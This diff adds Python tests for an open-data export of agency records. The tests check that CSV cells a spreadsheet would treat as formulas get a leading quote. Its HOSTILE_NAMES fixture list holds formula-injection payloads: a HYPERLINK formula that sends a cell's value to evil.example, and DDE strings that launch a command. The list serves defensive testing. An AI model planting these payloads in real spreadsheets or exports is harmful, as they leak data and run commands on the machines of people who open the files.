@@ -117,3 +117,46 @@ def test_agencies_json_and_csv_agree_with_the_database(client, meeting):
     assert changshu["latitude"] == "31.65374"
     national = next(r for r in records if r["name"] == "国家质量监督检验检疫总局")
     assert national["division_code"] == "" and national["northeast"] is False
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
+def test_csv_cells_that_would_be_formulas_get_a_leading_quote(client, hostile):
+    """A name or alias a spreadsheet would run as a formula is written with a leading ', and the
+    JSON file carries it exactly as stored."""
+    from tests.factories import AgencyFactory
+
+    agency = AgencyFactory(name=hostile, short_name="测试局", aliases=hostile)
+
+    [row] = [r for r in read_csv(client.get("/data/agencies.csv")) if r["id"] == str(agency.pk)]
+    assert row["name"] == "'" + hostile
+    # Aliases are one per line, trimmed: the tab or carriage return goes, the formula stays.
+    assert row["aliases"] == "'" + hostile.strip()
+    assert row["short_name"] == "测试局"
+    [record] = [
+        r
+        for r in json.loads(client.get("/data/agencies.json").content)["agencies"]
+        if r["id"] == agency.pk
+    ]
+    assert record["name"] == hostile
+
+
+def test_spreadsheet_safe_quotes_formulas_only():
+    """Formulas are quoted; a negative number stays a number; a name with - or = further in is
+    untouched; non-text values pass through."""
+    assert opendata.spreadsheet_safe("=1+1") == "'=1+1"
+    assert opendata.spreadsheet_safe("-70.25") == "-70.25"
+    assert opendata.spreadsheet_safe("-70.25+1") == "'-70.25+1"
+    assert opendata.spreadsheet_safe("齐齐哈尔市=技监局-一") == "齐齐哈尔市=技监局-一"
+    assert opendata.spreadsheet_safe(12) == 12
+    text = opendata.to_csv(["a", "b"], [{"a": "@x", "b": "ok"}])
+    assert list(csv.DictReader(io.StringIO(text[1:]))) == [{"a": "'@x", "b": "ok"}]
